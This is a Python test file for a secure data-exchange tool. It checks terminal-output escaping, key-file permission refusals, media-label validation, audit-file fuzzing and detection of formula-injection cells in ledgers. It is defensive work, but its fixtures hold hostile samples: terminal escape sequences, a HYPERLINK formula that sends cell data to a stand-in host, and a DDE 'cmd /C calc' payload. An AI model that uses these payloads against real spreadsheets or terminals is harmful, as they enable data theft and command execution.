"""Hardening at the edges (issue 11): what reaches the terminal, key files, media labels,
hostile audit side files and formula-like ledger cells. Each test is an attack that once
got through."""

from __future__ import annotations

import html
import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from secure_exchange.audit import AuditLog
from secure_exchange.audit import store as _auditstore
from secure_exchange.audit.report import render_report
from secure_exchange.cli import build_cli
from secure_exchange.errors import AgreementError, IdentityError, SecureExchangeError
from secure_exchange.i18n import printable, set_language, t
from secure_exchange.ledger import check_ledger
from secure_exchange.station import Station, init_station, media, volume
from secure_exchange.trust import Agreement, Keyring
from tests.support import (
    CLI_PASS,
    ID_A,
    ID_B,
    NUMBER,
    PASS,
    POLICY,
    World,
    evaluation,
    make_key,
    resident,
    shared_path,
    write_ledger,
)

ORG = "金乡街道真武社区"
EVIL = "a\x1b[31mb\u202ec\nd\u2028e\x00f"
POSIX = pytest.mark.skipif(os.name == "nt", reason="POSIX mode bits")


@pytest.fixture(autouse=True)
def _english() -> Iterator[None]:
    set_language("en")
    yield
    set_language(None)


def _cli(home: Path, *args: str) -> tuple[int, str]:
    env = {"SX_HOME": str(home), "SX_LANG": "en", "SX_PASSPHRASE": CLI_PASS}
    result = CliRunner().invoke(build_cli(), list(args), env=env)
    return result.exit_code, result.output


def _no_raw_controls(text: str) -> None:
    assert not any(c in text for c in "\x1b\u202e\u2028\x00"), repr(text)


# --- 8: every message parameter is shown escaped ------------------------------------------


def test_parameters_are_escaped_and_ordinary_text_kept() -> None:
    message = t("verify.unexpected_entry", name=EVIL)
    assert r"a\x1b[31mb\u202ec\nd\u2028e\x00f" in message
    _no_raw_controls(message)
    for ordinary in ("金乡街道真武社区", "王明\u3000李", "C:\\Users\\张三\\U盘", "naïve café 42"):
        assert printable(ordinary) == ordinary
    assert printable("\t\r\ufeff\U000e0001\ud800\ue000") == r"\t\r\ufeff\U000e0001\ud800\ue000"
    assert printable(printable(EVIL)) == printable(EVIL)  # escaping twice changes nothing


def test_numbers_and_objects_keep_working_as_parameters() -> None:
    assert "40" in t("audit.cli.shown", count=40)
    assert "/媒体/x\\x1by " in t("verify.not_a_package", path=Path("/媒体/x\x1by"))


def test_cli_shows_a_hostile_package_folder_name_escaped(tmp_path: Path) -> None:
    home = tmp_path / "bank"
    init_station(home, "金乡农商银行", "bank")
    folder = tmp_path / f"sx-{EVIL.replace(chr(0), '0')}"
    folder.mkdir()
    code, output = _cli(home, "verify", str(folder))
    assert code == 1
    assert r"\x1b[31m" in output
    assert r"\u202e" in output
    assert r"\n" in output
    _no_raw_controls(output)


@pytest.fixture(scope="module")
def sealed(world: World) -> Path:
    ledger = shared_path("samples", "ledger-sample.xlsx")
    result = world.sx(
        world.community, "seal", str(ledger), "--agreement", NUMBER, "--out", str(world.stick)
    )
    return Path(result.output.strip().splitlines()[-1])


def test_cli_shows_a_hostile_file_name_inside_a_package_escaped(
    world: World, sealed: Path, tmp_path: Path
) -> None:
    copy = tmp_path / sealed.name
    shutil.copytree(sealed, copy)
    (copy / "evil\x1b[31m\u202etxt.exe\nx").write_bytes(b"")
    code, output = _cli(world.bank, "verify", str(copy))
    assert code == 1
    assert r"evil\x1b[31m\u202etxt.exe\nx" in output
    _no_raw_controls(output)


def test_cli_inspect_shows_unverified_manifest_fields_escaped(
    world: World, sealed: Path, tmp_path: Path
) -> None:
    copy = tmp_path / sealed.name
    shutil.copytree(sealed, copy)
    manifest = json.loads((copy / "manifest.json").read_text(encoding="utf-8"))
    manifest["created"] = "2022-07-01\x1b]0;pwned\x07\x1b[2J\u202e"
    (copy / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False), "utf-8")
    code, output = _cli(world.bank, "inspect", str(copy))
    assert code in (0, 1)
    assert "\x1b" not in output
    assert "\x07" not in output
    assert "\u202e" not in output


# --- 9: secret key files readable by others are refused, with the fix ----------------------


@pytest.fixture
def ring(tmp_path: Path) -> Keyring:
    ring = Keyring(tmp_path)
    ring.create("zw-seal", ORG, "seal", PASS, cost="fast")
    return ring


@POSIX
@pytest.mark.parametrize("name", ["minisign.key", "age.key.age"])
@pytest.mark.parametrize("mode", [0o640, 0o604, 0o660])
def test_secret_key_file_open_to_others_is_refused(ring: Keyring, name: str, mode: int) -> None:
    path = ring.root / "zw-seal" / name
    path.chmod(mode)
    with pytest.raises(IdentityError, match="chmod 600") as info:
        ring.unlock("zw-seal", PASS)
    assert info.value.key == "keys.unprotected_file"
    assert f"chmod 600 {path}" in str(info.value)
    with pytest.raises(IdentityError, match="chmod 600"):
        ring.export_age_identity("zw-seal", PASS)
    path.chmod(0o600)
    assert ring.unlock("zw-seal", PASS).public.name == "zw-seal"


@POSIX
def test_key_folder_open_to_others_is_refused(ring: Keyring) -> None:
    folder = ring.root / "zw-seal"
    folder.chmod(0o755)
    with pytest.raises(IdentityError) as info:
        ring.unlock("zw-seal", PASS)
    assert info.value.key == "keys.unprotected_dir"
    assert f"chmod 700 {folder}" in str(info.value)
    set_language("zh")
    assert f"chmod 700 {folder}" in str(info.value)
    folder.chmod(0o700)
    ring.unlock("zw-seal", PASS)


@POSIX
def test_pseudonym_secret_open_to_others_is_refused(ring: Keyring) -> None:
    unlocked = ring.unlock("zw-seal", PASS)
    path = ring.root / "zw-seal" / "pseudonym.secret.age"
    path.chmod(0o644)
    with pytest.raises(IdentityError, match=f"chmod 600 {path}"):
        unlocked.pseudonym_secret()


@POSIX
def test_public_files_may_stay_readable(ring: Keyring) -> None:
    for name in ("identity.card", "minisign.pub"):
        (ring.root / "zw-seal" / name).chmod(0o644)
    assert ring.unlock("zw-seal", PASS).public.purpose == "seal"
    assert [k.name for k in ring.list()] == ["zw-seal"]


@POSIX
def test_cli_refuses_a_readable_key_and_names_the_fix(tmp_path: Path) -> None:
    home = tmp_path / "c"
    assert _cli(home, "init", "--org", ORG, "--role", "community")[0] == 0
    assert _cli(home, "keys", "new", "zw-seal", "--purpose", "seal", "--kdf", "fast")[0] == 0
    key = home / "keys" / "zw-seal" / "minisign.key"
    key.chmod(0o644)
    code, output = _cli(home, "keys", "export-age-identity", "zw-seal")
    assert code == 1
    assert f"chmod 600 {key}" in output
    assert "AGE-SECRET-KEY" not in output


# --- 6 and 9: media labels read strictly and bound to their volume --------------------------


@pytest.fixture
def stick(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Station, Path, dict]:
    volumes = {"id": "0F2A-77C1"}
    monkeypatch.setattr(media, "volume_id", lambda path: volumes["id"])
    home = tmp_path / "home"
    init_station(home, ORG, "community")
    officer = make_key(home, "zw-officer", ORG, "officer")
    folder = tmp_path / "stick"
    folder.mkdir()
    media.enroll_media(Station(home), folder, officer)
    return Station(home), folder, volumes


@pytest.mark.parametrize(
    "label",
    [
        b"[" * 60_000 + b"]" * 60_000,
        b'{"format": "sx-media-v1", "x": ' + b"[" * 5000 + b"]" * 5000 + b"}",
    ],
)
def test_deeply_nested_label_is_damaged_not_a_crash(stick, label: bytes) -> None:
    station, folder, _ = stick
    (folder / media.LABEL_NAME).write_bytes(label)
    with pytest.raises(media.MediaForgedError) as info:
        media.check_target(station, folder)
    assert info.value.key == "media.label_damaged"
    assert media.list_media(station, roots=[folder])[0].state == "absent"


def test_label_with_a_duplicate_key_is_damaged(stick) -> None:
    station, folder, _ = stick
    text = (folder / media.LABEL_NAME).read_text(encoding="utf-8")
    doubled = text.replace('"unit":', '"unit": "金乡街道西关社区",\n  "unit":', 1)
    (folder / media.LABEL_NAME).write_text(doubled, encoding="utf-8")
    with pytest.raises(media.MediaForgedError, match="damaged"):
        media.check_target(station, folder)


def test_agreement_nested_deeply_is_a_clear_refusal() -> None:
    with pytest.raises(AgreementError):
        Agreement.from_bytes(b'{"format": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")


def test_label_records_the_volume_and_checks_it(stick) -> None:
    station, folder, _ = stick
    doc = json.loads((folder / media.LABEL_NAME).read_text(encoding="utf-8"))
    assert doc["volume"] == "0F2A-77C1"
    assert media.check_target(station, folder).detail()["media.volume"] == "0F2A-77C1"


def test_label_copied_to_another_volume_is_refused(stick, tmp_path: Path) -> None:
    station, folder, volumes = stick
    clone = tmp_path / "clone"
    clone.mkdir()
    for name in (media.LABEL_NAME, media.SIGNATURE_NAME):
        shutil.copy(folder / name, clone / name)
    volumes["id"] = "9C3E-0001"
    with pytest.raises(media.MediaVolumeError) as info:
        media.check_target(station, clone)
    assert info.value.key == "media.volume_mismatch"
    assert "9C3E-0001" in str(info.value)
    volumes["id"] = None
    with pytest.raises(media.MediaVolumeError) as unknown:
        media.check_target(station, clone)
    assert unknown.value.key == "media.volume_unknown"
    detail = media.check_media(station, clone, allow_unenrolled=True)
    assert detail["media"] == "unenrolled"
    assert detail["media.reason"] == "other_volume"


def test_unavailable_volume_is_named_in_the_detail(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(media, "volume_id", lambda path: None)
    home = tmp_path / "home"
    init_station(home, ORG, "community")
    officer = make_key(home, "zw-officer", ORG, "officer")
    folder = tmp_path / "plain-folder"
    folder.mkdir()
    media.enroll_media(Station(home), folder, officer)
    doc = json.loads((folder / media.LABEL_NAME).read_text(encoding="utf-8"))
    assert doc["volume"] is None
    assert media.check_target(Station(home), folder).detail()["media.volume"] == "unavailable"


def test_linux_volume_is_the_filesystem_uuid_of_the_mount(tmp_path: Path) -> None:
    device = tmp_path / "dev" / "sdb1"
    device.parent.mkdir()
    device.write_bytes(b"")
    other = tmp_path / "dev" / "sda2"
    other.write_bytes(b"")
    by_uuid = tmp_path / "by-uuid"
    by_uuid.mkdir()
    (by_uuid / "1111-2222").symlink_to(other)
    (by_uuid / "0F2A-77C1").symlink_to(device)
    mount = tmp_path / "media" / "officer" / "U 盘"
    (mount / "sx-out").mkdir(parents=True)
    escaped = str(mount).replace(" ", "\\040")
    mountinfo = tmp_path / "mountinfo"
    mountinfo.write_text(
        f"22 1 8:2 / / rw,relatime shared:1 - ext4 {other} rw\n"
        f"98 22 8:17 / {escaped} rw,nosuid shared:50 - vfat {device} rw,fmask=0022\n",
        encoding="utf-8",
    )
    found = volume.linux_volume_id(mount / "sx-out", mountinfo=mountinfo, by_uuid=by_uuid)
    assert found == "0F2A-77C1"
    assert volume.linux_volume_id(tmp_path, mountinfo=mountinfo, by_uuid=by_uuid) == "1111-2222"
    assert volume.linux_volume_id(mount, mountinfo=tmp_path / "none", by_uuid=by_uuid) is None
    assert volume.linux_volume_id(mount, mountinfo=mountinfo, by_uuid=tmp_path / "no") is None


# --- 6: a flipped byte in any audit side file never crashes verify or report ---------------


def _round_trip(world: World, sealed: Path) -> None:
    world.sx(world.bank, "import", str(sealed))
    decisions = world.root / "edges-decisions.csv"
    world.sx(world.bank, "score", str(sealed), "--as-of", "2022-07-01", "--out", str(decisions))
    back = world.root / "edges-back"
    back.mkdir()
    result = world.sx(
        world.bank,
        "seal",
        str(decisions),
        "--agreement",
        NUMBER,
        "--out",
        str(back),
        "--allow-unenrolled",
    )
    world.sx(world.community, "import", result.output.strip().splitlines()[-1])


def _verify_and_render(home: Path) -> None:
    """What ``audit verify`` (text and JSON) and ``audit report`` render, minus the writes."""
    try:
        report = AuditLog.verify(home)
        json.dumps(report.to_dict(), ensure_ascii=False)
        render_report(_auditstore.station_name(home), [], report)
    except SecureExchangeError as exc:
        str(exc)


@pytest.mark.slow  # a sample by default; every byte when run with -m slow
@pytest.mark.parametrize("side", ["community", "bank"])
def test_flipped_bytes_of_checkpoints_and_witness_files(
    world: World, sealed: Path, tmp_path: Path, side: str, request: pytest.FixtureRequest
) -> None:
    """Every fifth byte of every side file flipped (every byte with ``-m slow``)."""
    if not list((world.bank / "audit").rglob("theirs/*.note")):
        _round_trip(world, sealed)
    stride = 1 if "slow" in (request.config.getoption("markexpr") or "") else 5
    home = tmp_path / side
    shutil.copytree(getattr(world, side), home)
    audit = home / "audit"
    files = sorted(p for p in audit.rglob("*") if p.is_file() and p.name != "log.sxl")
    assert any("witness" in p.parts for p in files)
    assert any("checkpoints" in p.parts for p in files)
    crashes = []
    for path in files:
        data = path.read_bytes()
        for i in range(len(data)):
            # Low bit: another ASCII character (base64, digits, names); high bit: not UTF-8.
            xor = 0x80 if (i // stride) % 2 else 0x01
            if i % stride:
                continue
            path.write_bytes(data[:i] + bytes([data[i] ^ xor]) + data[i + 1 :])
            try:
                _verify_and_render(home)
            except Exception as exc:
                crashes.append((path.relative_to(audit).as_posix(), i, xor, repr(exc)[:80]))
        path.write_bytes(data)
    assert crashes == []


@pytest.mark.parametrize("command", ["verify", "json", "report"])
def test_cli_on_a_flipped_checkpoint_signature_names_the_problem(
    world: World, sealed: Path, tmp_path: Path, command: str
) -> None:
    home = tmp_path / "c"
    shutil.copytree(world.community, home)
    checkpoint = sorted((home / "audit" / "checkpoints").glob("*.note"))[-1]
    data = bytearray(checkpoint.read_bytes())
    data[-10] ^= 0x80  # inside the signature line
    checkpoint.write_bytes(bytes(data))
    page = tmp_path / "log.html"
    args = {
        "verify": ["audit", "verify"],
        "json": ["audit", "verify", "--json"],
        "report": ["audit", "report", "--out", str(page)],
    }[command]
    code, output = _cli(home, *args)
    assert "Internal error" not in output
    assert "Traceback" not in output
    if command == "report":
        assert code == 0
        assert html.escape(t("audit.report.broken")) in page.read_text(encoding="utf-8")
    elif command == "json":
        assert code == 1
        assert json.loads(output.splitlines()[0])["ok"] is False
    else:
        assert code == 1
        assert f"{checkpoint.name}: " in output


# --- 10: formula-like ledger cells are warnings naming sheet, row and column ---------------


def _formula_findings(folder: Path) -> list[tuple[str | None, int | None, str | None]]:
    report = check_ledger(folder, policy=POLICY).report
    assert report.ok, [p.message() for p in report.errors]
    return [
        (w.where.sheet, w.where.row, w.where.column)
        for w in report.warnings
        if w.key == "ledger.value.formula"
    ]


def test_formula_like_text_cells_are_warnings(tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://x.example/?"&A1,"王明")'
    residents = [
        resident(ID_A, 姓名=payload),
        resident(ID_B, 所属社区="\u3000＋cmd|' /C calc'!A0", 联系电话="0537-1234567"),
    ]
    evals = [evaluation(ID_A), evaluation(ID_B, code="B9", points="5")]
    evals[1][4] = " @SUM(1+1)*cmd"
    folder = write_ledger(tmp_path / "ledger", residents, evals)
    assert _formula_findings(folder) == [
        ("居民", 2, "name"),
        ("居民", 3, "community"),
        ("评议", 3, "note"),
    ]
    warning = next(
        w for w in check_ledger(folder, policy=POLICY).report.warnings if w.key.endswith("formula")
    )
    assert "name" in warning.message()
    assert "HYPERLINK" not in warning.message()
    set_language("zh")
    assert "姓名" in warning.message()
    assert "公式" in warning.message()


def test_dates_numbers_phones_and_dashes_are_not_flagged(tmp_path: Path) -> None:
    residents = [
        resident(ID_A, 姓名="王明-李", 联系电话="138-0537-1234"),
        resident(ID_B, 姓名="李四", 所属社区="春秋社区"),
    ]
    evals = [evaluation(ID_A, panel_date="2022/6/28"), evaluation(ID_B, code="B9", points="12")]
    evals[0][4] = "-"
    evals[1][4] = "-300.5"
    folder = write_ledger(tmp_path / "ledger", residents, evals)
    assert _formula_findings(folder) == []
